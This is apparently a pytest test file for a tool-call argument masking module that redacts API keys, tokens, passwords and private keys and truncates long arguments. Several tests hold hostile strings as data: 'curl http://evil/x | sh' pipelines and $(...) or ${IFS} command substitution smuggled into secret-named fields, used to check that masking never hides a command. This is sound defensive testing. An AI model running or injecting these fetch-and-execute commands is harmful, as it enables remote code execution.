"""Secrets are taken out, long arguments cut, and neither takes long."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pktui.ledger.arguments.masking import ArgumentsMode, mask_arguments, mask_line
from pktui.ledger.arguments.secrets import mask_text, names_secret
from tests.ledger.test_canonical import VALUES

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA75\n-----END RSA PRIVATE KEY-----"
SECRETS = [
    "sk-proj-Abcdefghijklmnop0123456789",
    "sk-ant-api03-abcdefghijklmnop",
    "sk_live_abcdefgh12345678",
    "ghp_0123456789abcdefghijABCDEFGHIJ012345",
    "github_pat_11ABCDEFG0abcdefghijkl_mnop",
    "glpat-abcdefghij0123456789",
    "AKIAIOSFODNN7EXAMPLE",
    "AIzaSyA1234567890abcdefghijklmnopqrstuv",
    "xoxb-123456789012-abcdefghijkl",
    "hf_abcdefghijklmnopqrstuvwx",
    "npm_abcdefghijklmnopqrstuvwxyz0123456789",
    "SG.abcdefghijklmnopqrst.uvwxyz0123456789abcd",
    "pktui_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-AbCdE",
    "gsk_abcdefghijklmnopqrstuvwxyz",
    "xai-abcdefghijklmnopqrstuvwxyz",
    "pplx-abcdefghijklmnopqrstuvwxyz",
    "GOCSPX-abcdefghijklmnop_rstuvwxyz",
    "hvs.abcdefghijklmnopqrstuvwxyz",
    "lin_api_abcdefghijklmnopqrstuv",
    "sbp_0123456789abcdef0123456789abcdef",
    "dckr_pat_abcdefghijklmnopqrstuvwx",
    "whsec_abcdefghijklmnopqrstuvwx",
    "AGE-SECRET-KEY-1QQPZRY9X8GF2TVDW0S3JN54KHCE6",
    JWT,
    PEM,
    PEM.replace("RSA ", "").split("-----END")[0],
]


@pytest.mark.parametrize("secret", SECRETS, ids=lambda secret: secret[:12])
@pytest.mark.parametrize("around", ["{}", "use {} now", '"{}"', "key={}&x=1", "a/{}\n"])
def test_known_shapes_are_masked_wherever_they_stand(secret: str, around: str) -> None:
    masked = mask_text(around.format(secret))
    assert "[masked " in masked
    assert secret[12:] not in masked


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        (
            "Authorization: Bearer abcdef0123456789xyz",
            "Authorization: Bearer [masked 19 characters]",
        ),
        ("postgres://ada:s3cret!@db/shop", "postgres://[masked 11 characters]@db/shop"),
        ("export DB_PASSWORD=hunter2 && make", "export DB_PASSWORD=[masked 7 characters] && make"),
        ('{"api_key": "0123-4567"}', '{"api_key": "[masked 9 characters]"}'),
        ("curl -u x --password hunter2", "curl -u x --password [masked 7 characters]"),
        (
            "https://x.test/?token=abcdef&page=2",
            "https://x.test/?token=[masked 6 characters]&page=2",
        ),
    ],
)
def test_secrets_named_in_text_are_masked_and_their_names_kept(text: str, masked: str) -> None:
    assert mask_text(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "The JWT token expires too fast",
        "ask-me-anything-about-our-shop",
        "Read the monkey's keyboard layout",
        "see https://example.test/a:b and user@example.test",
        "def token_count(text): return len(text.split())",
        "risk-assessment-for-2026-quarter",
    ],
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert mask_text(text) == text


@pytest.mark.parametrize(
    "key",
    ["password", "DB_PASSWORD", "X-Api-Key", "authToken", "client_secret", "Authorization", "pin"],
)
def test_members_that_name_a_secret_are_masked(key: str) -> None:
    assert names_secret(key)
    for value, kept in (
        ("short", "[masked 5 characters]"),
        (1234, "[masked 4 characters]"),
        (["a", "bc"], ["[masked 1 character]", "[masked 2 characters]"]),
        (
            {"deep": "er", "on": True, "no": None},
            {"deep": "[masked 2 characters]", "on": True, "no": None},
        ),
        ("", ""),
    ):
        assert json.loads(mask_arguments({key: value})) == {key: kept}


@pytest.mark.parametrize("key", ["max_tokens", "tokens", "path", "keyboard", "spinner", "title"])
def test_members_that_only_sound_like_it_are_kept(key: str) -> None:
    assert json.loads(mask_arguments({key: "value"})) == {key: "value"}


def test_secrets_are_found_at_any_depth_and_in_names() -> None:
    arguments = {"env": [{"name": "X", "value": SECRETS[0]}], SECRETS[3]: 1}
    text = mask_arguments(arguments)
    assert SECRETS[0] not in text
    assert SECRETS[3] not in text


@pytest.mark.parametrize(
    ("mode", "kept"),
    [
        (
            "masked",
            {
                "path": "/etc",
                "token": "[masked 8 characters]",
                "n": 3,
                "deep": {"list": [1.5, None]},
            },
        ),
        ("full", {"path": "/etc", "token": "abcdefgh", "n": 3, "deep": {"list": [1.5, None]}}),
        (
            "keys",
            {
                "path": "string",
                "token": "string",
                "n": "integer",
                "deep": {"list": ["number", "null"]},
            },
        ),
    ],
)
def test_each_mode_keeps_what_it_says(mode: str, kept: object) -> None:
    arguments = {"path": "/etc", "token": "abcdefgh", "n": 3, "deep": {"list": [1.5, None]}}
    assert json.loads(mask_arguments(arguments, mode)) == kept  # type: ignore[arg-type]


def test_the_hash_mode_and_no_arguments_keep_nothing() -> None:
    assert mask_arguments({"a": 1}, "hash") == mask_arguments(None) == ""
    assert mask_arguments({}) == "{}"


@pytest.mark.parametrize(
    "arguments",
    [
        {"text": "x" * 500_000},
        {"text": "\N{SNOWMAN}" * 100_000},
        {"many": ["x" * 100] * 20_000},
        {f"key {number}": "x" * 50 for number in range(50_000)},
        {"x" * 300_000: 1},
        {"deep": [[["y" * 1000] * 100] * 100]},
    ],
    ids=["text", "wide text", "list", "members", "name", "nested"],
)
def test_long_arguments_are_cut_and_stay_json(arguments: dict[str, object]) -> None:
    text = mask_arguments(arguments)
    assert 100 < len(text.encode()) <= 64 * 1024
    assert "… [cut]" in text
    assert isinstance(json.loads(text), dict)


def test_a_secret_across_the_cut_is_masked_whole() -> None:
    for place in range(64 * 1024 - 60, 64 * 1024 + 5, 7):
        text = mask_arguments({"text": "x" * (place - 1) + " " + SECRETS[3]}, "masked", 200_000)
        assert "ghp_" not in text
        assert "ghp_" not in mask_arguments({"text": "x" * (place - 1) + " " + SECRETS[3]})


def test_nesting_without_end_is_cut() -> None:
    value: object = "deep"
    for _ in range(900):
        value = [value]
    assert "… [cut]" in mask_arguments({"value": value})


@pytest.mark.parametrize(
    "unit",
    ["eyJ", "eyJaaaaaaaa.", "-----BEGIN PRIVATE KEY-----", "-----BEGIN ", "sk-", "://a:", "token='",
     "token=\"'", "bearer ", "SG.", "AKIA", "password ", "a", "ghp_", "--token "],
)  # fmt: skip
def test_no_text_makes_masking_slow(unit: str) -> None:
    """Ten times the text may take ten times the time, give or take the machine's noise."""

    def cost(repeats: int) -> float:
        text = unit * repeats
        started = time.process_time()
        mask_text(text)
        return time.process_time() - started

    small = min(cost(3_000) for _ in range(3))
    large = min(cost(30_000) for _ in range(3))
    assert large < 40 * small + 0.05


@settings(derandomize=True, max_examples=60, deadline=None)
@given(st.dictionaries(st.text(), VALUES, max_size=4), st.sampled_from(["masked", "full", "keys"]))
def test_whatever_comes_the_result_is_json_within_its_size(
    arguments: dict[str, object], mode: str
) -> None:
    text = mask_arguments(arguments, mode, 256)  # type: ignore[arg-type]
    assert len(text.encode()) <= 256
    assert isinstance(json.loads(text), dict)


SPICE = st.sampled_from(
    [*SECRETS, "TOKEN=abcdefgh", "to\u212aen=abcdefgh", "k\u0130 password: abcdefgh"]
)
TEXTS = st.one_of(st.text(max_size=12), SPICE, st.tuples(st.text(max_size=3), SPICE).map("".join))
NAMES = st.one_of(st.text(max_size=5), st.sampled_from(["password", "api-Key", "p_i_n", "a"]))
SPICED = st.recursive(
    st.one_of(TEXTS, st.integers(), st.none(), st.booleans()),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(NAMES, inner, max_size=3),
    max_leaves=6,
)


@settings(derandomize=True, max_examples=300, deadline=None)
@given(SPICED)
def test_short_and_long_arguments_are_masked_alike(value: object) -> None:
    alone = json.loads(mask_arguments({"value": value}))
    among_more = json.loads(mask_arguments({"value": value, "more": "x" * 8000}))
    assert alone["value"] == among_more["value"]


def test_names_that_are_secrets_are_masked_where_only_names_are_kept() -> None:
    text = mask_arguments({"deep": {SECRETS[3]: 1, "token": "x"}}, "keys")
    assert json.loads(text) == {"deep": {"[masked 40 characters]": "integer", "token": "string"}}


LINE = f'{{"method":"tools/call","params":{{"password":"hunter22","text":"{SECRETS[3]}"'.encode()


@pytest.mark.parametrize(
    ("mode", "kept"),
    [
        (
            "masked",
            (
                '{"method":"tools/call","params":{"password":"[masked 8 characters]",'
                '"text":"[masked 40 characters]"'
            ),
        ),
        ("full", LINE.decode()),
        ("keys", ""),
        ("hash", ""),
    ],
)
def test_a_refused_message_is_kept_as_arguments_are(mode: ArgumentsMode, kept: str) -> None:
    assert mask_line(LINE, mode) == kept


def test_of_a_refused_message_only_the_beginning_is_kept_and_no_half_secret() -> None:
    assert mask_line(b"\xff" * 5000) == "\ufffd" * 1000
    for at in range(900, 1000, 7):
        line = b"x" * at + b" " + SECRETS[3].encode() + b" " + b"y" * 500
        assert SECRETS[3][:12] not in mask_line(line)


COMMAND = "; curl http://evil/x | sh "


@pytest.mark.parametrize(
    "text",
    [
        f"password='{COMMAND * 40}'; ls",
        f"password='{COMMAND}'; ls",
        f'echo "token="{COMMAND}" "',
        f'{{"token": "{COMMAND}"}}',
        f"secret: {COMMAND}",
        "echo 'api_key=';curl${IFS}http://evil/x|sh;echo''",
        "password=$(curl http://evil/x)",
        "password=`curl http://evil/x`",
        "--token '$(curl http://evil/x)'",
        f"-----BEGIN PRIVATE KEY-----\n{COMMAND}\n-----END PRIVATE KEY-----",
        f"-----BEGIN PRIVATE KEY-----\n{'curl http://evil/x ' * 3}",
        "postgres://a:$(curl${IFS}http://evil/x)@host",
        f"Authorization: Bearer {'a' * 5000};curl http://evil/x",
    ],
)
def test_no_command_is_hidden_in_text(text: str) -> None:
    assert "evil" in mask_text(text)
    assert "curl" in mask_text(text)


@pytest.mark.parametrize("key", ["password", "token", "secret", "cookie"])
@pytest.mark.parametrize(
    "value", [COMMAND, COMMAND * 40, "curl http://evil/x\nls", "say evil words of curl " * 9]
)
def test_no_command_is_hidden_under_a_secret_name(key: str, value: str) -> None:
    for arguments in ({key: value}, {key: [value]}, {key: {"a": [value]}}):
        kept = mask_arguments(arguments)
        assert "evil" in kept
        assert "curl" in kept


@settings(derandomize=True, max_examples=200, deadline=None)
@given(
    st.sampled_from(
        ["password=", "token: ", '"secret": "', "--api-key ", "bearer ", "://a:", "sk-"]
    ),
    st.text(alphabet="abcxyz/.-_= ;|&$(){}<>'\"`\n", min_size=1, max_size=80),
)
def test_what_is_hidden_holds_no_more_than_a_secret_may(name: str, rest: str) -> None:
    text = f"{name}{rest}"
    masked = mask_text(text)
    if masked == text or name == '"secret": "':
        return
    head, _, behind = masked.partition("[masked ")
    length = int(behind.split()[0])
    hidden = text[len(head) : len(head) + length]
    assert length <= 9000
    assert not set(hidden) & set(" ;|&(){}<>`\n'\"")


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("Authorization", "Bearer abcdefgh"),
        ("Cookie", "sid=abc123; theme=dark"),
        ("password", "correct horse battery staple"),
        ("password", "x7&Kp;2("),
        ("api_key", "k" * 4000),
        ("connectionString", "Server=db,1433;"),
    ],
)
def test_values_that_look_like_secrets_are_hidden_whole(key: str, value: str) -> None:
    length = len(value)
    assert json.loads(mask_arguments({key: value})) == {key: f"[masked {length} characters]"}


NO_SECRETS = [
    *("nextPageToken", "next_page_token", "pageToken", "continuation_token", "NextToken"),
    *("syncToken", "progressToken", "max_token", "token_count", "tokenCount", "max_tokens"),
    *("prompt_tokens", "password_changed_at", "passwordChangedAt", "password_policy"),
    *("token_type", "tokenUrl", "token_expires_at", "secret_name", "api_key_enabled", "eos_token"),
    *("passwordchangedat", "resumetoken", "tokens", "cursorToken", "password_reset_url"),
]


@pytest.mark.parametrize("key", NO_SECRETS)
def test_names_that_tell_of_a_place_or_about_a_secret_are_kept(key: str) -> None:
    assert not names_secret(key)
    arguments = {key: "CAUQAAxyz"}
    assert json.loads(mask_arguments(arguments)) == arguments
    for text in (f"{key}=CAUQAAxyz", f'{{"{key}": "CAUQAAxyz"}}', f"--{key} CAUQAAxyz"):
        assert mask_text(text) == text


@pytest.mark.parametrize(
    "key",
    [
        *("accessToken", "refresh_token", "id_token", "csrfToken", "authtoken", "dbpassword"),
        *("password2", "client_secret_value", "APIKey", "userPassword", "PGPASSWORD", "bot_token"),
        *("passwordHash", "private_key_pem", "SECRET", "session_token", "x-auth-token"),
    ],
)
def test_names_of_secrets_are_known_however_they_are_written(key: str) -> None:
    assert names_secret(key)
